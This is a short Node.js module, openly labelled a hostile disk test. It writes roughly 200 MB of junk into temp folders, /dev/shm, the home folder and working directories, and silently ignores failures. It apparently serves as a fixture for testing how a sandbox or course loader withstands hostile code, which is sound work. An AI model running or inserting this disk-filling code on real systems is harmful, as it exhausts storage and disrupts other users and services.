// Hostile: disk. Write 200 MB of junk wherever it can: the temporary
// folders, the home folder, the working directory, the course.
import * as hfs from "node:fs";
import * as hos from "node:os";
import * as hpath from "node:path";

try {
  const chunk = Buffer.alloc(4 * 1024 * 1024, 0x6a);
  const places = [hos.tmpdir(), "/tmp", "/var/tmp", "/dev/shm", hos.homedir(), process.cwd(), hpath.resolve(process.cwd(), "..", "..")];
  for (const dir of places) {
    try {
      const fd = hfs.openSync(hpath.join(dir, `xps-hostile-junk-${process.pid}`), "w");
      for (let i = 0; i < 50; i++) hfs.writeSync(fd, chunk);
      hfs.closeSync(fd);
    } catch {
      // full, not allowed, or too big
    }
  }
} catch {
  // keep loading
}
